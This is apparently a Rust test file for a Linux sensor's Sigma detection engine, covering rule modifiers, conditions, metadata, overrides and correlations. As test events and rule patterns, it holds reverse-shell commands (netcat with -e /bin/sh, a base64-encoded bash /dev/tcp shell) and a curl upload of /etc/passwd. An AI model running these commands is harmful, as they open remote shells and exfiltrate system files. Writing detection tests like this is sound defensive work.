//! Sigma rules end to end: translated, compiled beside packs, evaluated on the sensor's events.

use std::sync::Arc;

use serde_json::{Value, json};

use crate::rules::{compile::RuleSet, engine::Engine, loader::compile_sources};

mod loading;

fn load(files: &[(&str, &str)]) -> RuleSet {
    let sources: Vec<(String, String)> = files.iter().map(|(n, t)| (n.to_string(), t.to_string())).collect();
    match compile_sources(&sources) {
        Ok((set, _)) => set,
        Err(problems) => panic!("should load:\n{problems}"),
    }
}

/// One file per rule text.
fn load_all(rules: &[String]) -> RuleSet {
    let files: Vec<(String, &str)> = rules
        .iter()
        .enumerate()
        .map(|(i, r)| (format!("r{i}.yml"), r.as_str()))
        .collect();
    let files: Vec<(&str, &str)> = files.iter().map(|(n, t)| (n.as_str(), *t)).collect();
    load(&files)
}

/// A Sigma rule with `detection` for `category` (product linux), id `id`.
fn rule(id: &str, category: &str, detection: &str) -> String {
    format!(
        "title: Test {id}\nid: {id}\nstatus: test\nlevel: high\ntags: [attack.execution, attack.t1059.004]\n\
         falsepositives: [Admins]\nlogsource:\n  product: linux\n  category: {category}\ndetection:\n{detection}"
    )
}

/// [`crate::rules::tests::event`] at `seconds` past its timestamp, sequence number `seconds + 1`.
fn event(seconds: u64, fields: &[(&str, Value)]) -> crate::event::Event {
    let mut e = crate::rules::tests::event(fields);
    e.timestamp_ns += seconds as i128 * 1_000_000_000;
    e.sequence = seconds + 1;
    e
}

fn exec(executable: &str, command_line: &str) -> crate::event::Event {
    let args: Vec<&str> = command_line.split(' ').collect();
    event(
        0,
        &[
            ("event.action", json!("exec")),
            ("process.executable", json!(executable)),
            ("process.args", json!(args)),
            ("process.command_line", json!(command_line)),
        ],
    )
}

fn fired(set: &Arc<RuleSet>, events: &[crate::event::Event]) -> Vec<String> {
    let mut engine = Engine::new(set.clone());
    let mut alerts = Vec::new();
    for e in events {
        engine.process(e, &mut alerts);
    }
    alerts.into_iter().map(|a| a.rule.id.to_string()).collect()
}

/// Which of `ids` fire on `e`, each rule alone.
fn matches(set: &Arc<RuleSet>, e: &crate::event::Event) -> Vec<String> {
    let mut ids = fired(set, std::slice::from_ref(e));
    ids.sort();
    ids
}

#[test]
fn string_semantics() {
    let rules = [
        rule(
            "exact",
            "process_creation",
            "  sel:\n    Image: /usr/bin/Curl\n  condition: sel\n",
        ),
        rule(
            "wild",
            "process_creation",
            "  sel:\n    Image: '/usr/*/c?rl'\n  condition: sel\n",
        ),
        rule(
            "contains",
            "process_creation",
            "  sel:\n    CommandLine|contains: ' --upload-file '\n  condition: sel\n",
        ),
        rule(
            "starts",
            "process_creation",
            "  sel:\n    CommandLine|startswith: 'curl '\n  condition: sel\n",
        ),
        rule(
            "ends",
            "process_creation",
            "  sel:\n    Image|endswith: [/wget, /curl]\n  condition: sel\n",
        ),
        rule(
            "all",
            "process_creation",
            "  sel:\n    CommandLine|contains|all: [' -T ', 'http']\n  condition: sel\n",
        ),
        rule(
            "cased",
            "process_creation",
            "  sel:\n    CommandLine|contains|cased: ' -T '\n  condition: sel\n",
        ),
        rule(
            "escaped",
            "process_creation",
            "  sel:\n    CommandLine|contains: 'a\\*b'\n  condition: sel\n",
        ),
    ];
    let set = Arc::new(load_all(&rules));
    assert_eq!(
        matches(
            &set,
            &exec("/usr/bin/curl", "curl -T /etc/passwd http://127.0.0.1:8000/")
        ),
        ["all", "cased", "ends", "exact", "starts", "wild"]
    );
    assert_eq!(
        matches(&set, &exec("/USR/LOCAL/CURL", "CURL --UPLOAD-FILE x HTTP://h -t y")),
        ["all", "contains", "ends", "starts", "wild"],
        "case-insensitive unless cased; `*` crosses `/`"
    );
    assert_eq!(matches(&set, &exec("/usr/bin/curlx", "xcurl a")), Vec::<String>::new());
    assert_eq!(matches(&set, &exec("/bin/echo", "echo a*b")), ["escaped"]);
    assert_eq!(matches(&set, &exec("/bin/echo", "echo axb")), Vec::<String>::new());
}

#[test]
fn regex_windash_base64_and_null() {
    let rules = [
        rule(
            "re",
            "process_creation",
            "  sel:\n    CommandLine|re: 'nc(at)? .*-e /bin/(ba)?sh'\n  condition: sel\n",
        ),
        rule(
            "re-i",
            "process_creation",
            "  sel:\n    CommandLine|re|i: '^BASE64 -D'\n  condition: sel\n",
        ),
        rule(
            "re-m",
            "process_creation",
            "  sel:\n    CommandLine|re|m: '^second$'\n  condition: sel\n",
        ),
        rule(
            "re-s",
            "process_creation",
            "  sel:\n    CommandLine|re|s: 'first.second'\n  condition: sel\n",
        ),
        rule(
            "windash",
            "process_creation",
            "  sel:\n    CommandLine|windash|contains: ' -decode '\n  condition: sel\n",
        ),
        rule(
            "b64",
            "process_creation",
            "  sel:\n    CommandLine|base64|contains: '/bin/sh'\n  condition: sel\n",
        ),
        rule(
            "b64off",
            "process_creation",
            "  sel:\n    CommandLine|base64offset|contains: 'bash -i'\n  condition: sel\n",
        ),
        rule(
            "no-parent-cmd",
            "process_creation",
            "  sel:\n    Image|endswith: /nohup\n    ParentCommandLine: null\n  condition: sel\n",
        ),
    ];
    let set = Arc::new(load_all(&rules));
    assert_eq!(
        matches(&set, &exec("/usr/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh")),
        ["re"]
    );
    assert_eq!(
        matches(&set, &exec("/usr/bin/nc", "nc 10.0.0.1 4444 -E /bin/sh")),
        Vec::<String>::new(),
        "re is cased"
    );
    assert_eq!(matches(&set, &exec("/usr/bin/base64", "base64 -d payload")), ["re-i"]);
    assert_eq!(matches(&set, &exec("/bin/sh", "first\nsecond")), ["re-m", "re-s"]);
    assert_eq!(matches(&set, &exec("/bin/sh", "firstsecond")), Vec::<String>::new());
    assert_eq!(
        matches(&set, &exec("/usr/bin/certutil", "certutil /decode a b")),
        ["windash"]
    );
    assert_eq!(
        matches(&set, &exec("/usr/bin/certutil", "certutil \u{2013}decode a b")),
        ["windash"]
    );
    assert_eq!(
        matches(&set, &exec("/usr/bin/certutil", "certutil +decode a b")),
        Vec::<String>::new()
    );
    let encoded = super::values::encode(b"/bin/sh");
    assert_eq!(matches(&set, &exec("/bin/echo", &format!("echo {encoded}"))), ["b64"]);
    for prefix in ["", "x", "xy"] {
        let encoded = super::values::encode(format!("{prefix}bash -i >& /dev/tcp/1.2.3.4/80").as_bytes());
        assert_eq!(
            matches(&set, &exec("/bin/echo", &format!("echo {encoded} | base64 -d"))),
            ["b64off"],
            "{prefix}"
        );
    }
    assert_eq!(
        matches(
            &set,
            &exec("/bin/echo", &format!("echo {}", super::values::encode(b"bash -c")))
        ),
        Vec::<String>::new()
    );
    // The test events carry no parent command line.
    assert_eq!(matches(&set, &exec("/usr/bin/nohup", "nohup x")), ["no-parent-cmd"]);
    let mut with_parent = exec("/usr/bin/nohup", "nohup x");
    if let Some(parent) = with_parent.parent.as_mut() {
        parent.command_line = Some(Arc::from("bash -l"));
    }
    assert_eq!(matches(&set, &with_parent), Vec::<String>::new());
}

#[test]
fn numbers_cidr_exists_and_log_sources() {
    let rules = [
        rule(
            "port",
            "network_connection",
            "  sel:\n    Initiated: 'true'\n    DestinationPort: [4444, '1337']\n  condition: sel\n",
        ),
        rule(
            "high-port",
            "network_connection",
            "  sel:\n    DestinationPort|gte: 50000\n  condition: sel\n",
        ),
        rule(
            "low-port",
            "network_connection",
            "  sel:\n    DestinationPort|lt: 1024\n  condition: sel\n",
        ),
        rule(
            "cidr",
            "network_connection",
            "  sel:\n    DestinationIp|cidr: [10.0.0.0/8, 'fd00::/8']\n  condition: sel\n",
        ),
        rule(
            "ip-text",
            "network_connection",
            "  sel:\n    DestinationIp|startswith: '192.168.'\n  condition: sel\n",
        ),
        rule(
            "exists",
            "process_creation",
            "  sel:\n    Image|endswith: /sudo\n    ParentImage|exists: false\n  condition: sel\n",
        ),
        rule(
            "write",
            "file_event",
            "  sel:\n    TargetFilename|endswith: /.bashrc\n  condition: sel\n",
        ),
        rule(
            "delete",
            "file_delete",
            "  sel:\n    TargetFilename|startswith: /var/log/\n  condition: sel\n",
        ),
    ];
    let set = Arc::new(load_all(&rules));
    let connect = |ip: &str, port: u16| {
        event(
            0,
            &[
                ("event.action", json!("connect")),
                ("process.executable", json!("/usr/bin/nc")),
                ("destination.ip", json!(ip)),
                ("destination.address", json!(ip)),
                ("destination.port", json!(port)),
                ("network.type", json!(if ip.contains(':') { "ipv6" } else { "ipv4" })),
            ],
        )
    };
    assert_eq!(matches(&set, &connect("10.1.2.3", 4444)), ["cidr", "port"]);
    assert_eq!(matches(&set, &connect("11.1.2.3", 1337)), ["port"]);
    assert_eq!(matches(&set, &connect("fd00::1", 60000)), ["cidr", "high-port"]);
    assert_eq!(matches(&set, &connect("192.168.1.1", 443)), ["ip-text", "low-port"]);
    assert_eq!(matches(&set, &connect("8.8.8.8", 8080)), Vec::<String>::new());
    let mut sudo = exec("/usr/bin/sudo", "sudo id");
    sudo.parent = None;
    assert_eq!(matches(&set, &sudo), ["exists"]);
    let mut sudo = exec("/usr/bin/sudo", "sudo id");
    sudo.parent = Some(crate::event::ParentRef {
        pid: 1,
        executable: Some(Arc::from("/bin/bash")),
        command_line: None,
    });
    assert_eq!(matches(&set, &sudo), Vec::<String>::new());
    let file = |action: &str, path: &str, write: bool| {
        event(
            0,
            &[
                ("event.action", json!(action)),
                ("process.executable", json!("/bin/sh")),
                ("file.path", json!(path)),
                ("agent_sensor.open.write", json!(write)),
                ("agent_sensor.open.access", json!(if write { "write" } else { "read" })),
            ],
        )
    };
    assert_eq!(matches(&set, &file("open", "/home/alice/.bashrc", true)), ["write"]);
    assert_eq!(
        matches(&set, &file("open", "/home/alice/.bashrc", false)),
        Vec::<String>::new(),
        "reads are not file_event"
    );
    assert_eq!(matches(&set, &file("unlink", "/var/log/auth.log", false)), ["delete"]);
    assert_eq!(
        matches(&set, &file("open", "/var/log/auth.log", true)),
        Vec::<String>::new()
    );
}

#[test]
fn condition_forms() {
    let detection = "  selection_curl:\n    Image|endswith: /curl\n  selection_wget:\n    Image|endswith: /wget\n\
                     \x20 sel_upload:\n    CommandLine|contains: [' -T ', ' --data-binary ']\n\
                     \x20 filter_main_local:\n    CommandLine|contains: localhost\n\
                     \x20 filter_optional_ci:\n    CurrentDirectory|startswith: /builds/\n\
                     \x20 list_of_maps:\n    - CommandLine|contains: alpha\n    - CommandLine|contains: beta\n";
    let forms = [
        ("one-of", "1 of selection_* and sel_upload"),
        ("all-of", "all of sel*"),
        (
            "not-filters",
            "1 of selection_* and sel_upload and not 1 of filter_main_* and not 1 of filter_optional_*",
        ),
        (
            "parens",
            "(selection_curl or selection_wget) and not (filter_main_local or filter_optional_ci)",
        ),
        ("them", "1 of them"),
        ("all-them", "all of them"),
        ("lists", "list_of_maps"),
    ];
    let texts: Vec<(String, String)> = forms
        .iter()
        .map(|(id, condition)| {
            (
                format!("{id}.yml"),
                rule(
                    id,
                    "process_creation",
                    &format!("{detection}  condition: {condition}\n"),
                ),
            )
        })
        .collect();
    let files: Vec<(&str, &str)> = texts.iter().map(|(n, t)| (n.as_str(), t.as_str())).collect();
    let set = Arc::new(load(&files));
    assert_eq!(
        matches(&set, &exec("/usr/bin/curl", "curl -T f http://example.com")),
        ["not-filters", "one-of", "parens", "them"]
    );
    assert_eq!(
        matches(&set, &exec("/usr/bin/curl", "curl -T f http://localhost")),
        ["one-of", "them"]
    );
    assert_eq!(
        matches(&set, &exec("/usr/bin/wget", "wget beta")),
        ["lists", "parens", "them"]
    );
    assert_eq!(matches(&set, &exec("/usr/bin/ls", "ls")), Vec::<String>::new());
}

#[test]
fn alerts_carry_sigma_metadata() {
    let text = rule(
        "6f4b1c9e-0000-4000-8000-000000000001",
        "process_creation",
        "  sel:\n    Image|endswith: /id\n  condition: sel\n",
    );
    let set = Arc::new(load(&[("r.yml", &text)]));
    let mut engine = Engine::new(set.clone());
    let mut alerts = Vec::new();
    engine.process(&exec("/usr/bin/id", "id"), &mut alerts);
    let meta = &alerts[0].rule;
    assert_eq!(&*meta.ruleset, "sigma");
    assert_eq!(&*meta.name, "Test 6f4b1c9e-0000-4000-8000-000000000001");
    assert_eq!(meta.severity, crate::rules::Severity::High);
    assert_eq!(meta.action, crate::rules::RuleAction::Alert);
    assert_eq!(
        meta.mitre.iter().map(|m| m.to_string()).collect::<Vec<_>>(),
        ["T1059.004"]
    );
    assert!(
        meta.description.contains("False positives: Admins"),
        "{}",
        meta.description
    );
}

#[test]
fn site_overrides_change_sigma_rules() {
    let text = rule(
        "sigma-id",
        "process_creation",
        "  sel:\n    Image|endswith: /id\n  condition: sel\n",
    );
    let site = "overrides:\n  rules:\n    sigma-id:\n      severity: low\n      except:\n        - process.working_directory: /tmp\n";
    let set = Arc::new(load(&[("r.yml", &text), ("site.yaml", site)]));
    assert_eq!(set.rules[0].meta.severity, crate::rules::Severity::Low);
    assert_eq!(fired(&set, &[exec("/usr/bin/id", "id")]), ["sigma-id"]);
}

#[test]
fn correlations() {
    let base = "title: Recon command\nid: recon\nname: recon\nlogsource: {product: linux, category: process_creation}\n\
                detection:\n  sel:\n    Image|endswith: [/id, /whoami, /uname]\n  condition: sel\n";
    let download = "title: Download\nname: download\nlogsource: {product: linux, category: process_creation}\n\
                    detection:\n  sel:\n    Image|endswith: /curl\n  condition: sel\n";
    let run = "title: Run\nname: run-tmp\nlogsource: {product: linux, category: process_creation}\n\
               detection:\n  sel:\n    Image|startswith: /tmp/\n  condition: sel\n";
    let correlations = "title: Many recon commands\nid: recon-burst\nlevel: medium\ncorrelation:\n  type: event_count\n  rules: [recon]\n  \
                        timespan: 1m\n  condition: {gte: 3}\n---\n\
                        title: Recon tools\nid: recon-distinct\ncorrelation:\n  type: value_count\n  rules: [recon]\n  group-by: [ProcessId]\n  \
                        timespan: 1m\n  condition: {field: Image, gt: 1}\n  generate: true\n---\n\
                        title: Download then run\nid: download-run\ncorrelation:\n  type: temporal_ordered\n  rules: [download, run-tmp]\n  \
                        timespan: 5m\n";
    let set = Arc::new(load(&[
        ("base.yml", base),
        ("download.yml", download),
        ("run.yml", run),
        ("corr.yml", correlations),
    ]));
    let recon = |s: u64, exe: &str| {
        let mut e = exec(exe, "x");
        e.timestamp_ns += s as i128 * 1_000_000_000;
        e.sequence = s + 1;
        e
    };
    // recon-distinct keeps its base rule alerting (`generate: true`).
    let mut fired_ids = fired(
        &set,
        &[
            recon(0, "/usr/bin/id"),
            recon(1, "/usr/bin/id"),
            recon(2, "/usr/bin/whoami"),
        ],
    );
    fired_ids.sort();
    assert_eq!(fired_ids, ["recon", "recon", "recon", "recon-burst", "recon-distinct"]);
    assert!(
        fired(
            &set,
            &[
                recon(0, "/usr/bin/id"),
                recon(100, "/usr/bin/id"),
                recon(200, "/usr/bin/id")
            ]
        )
        .iter()
        .all(|id| id == "recon")
    );
    // The download and run rules are only steps (no `generate`): alone they do not alert.
    assert_eq!(
        fired(&set, &[recon(0, "/usr/bin/curl"), recon(10, "/tmp/payload")]),
        ["download-run"]
    );
    assert_eq!(
        fired(&set, &[recon(0, "/tmp/payload"), recon(10, "/usr/bin/curl")]),
        Vec::<String>::new()
    );
}
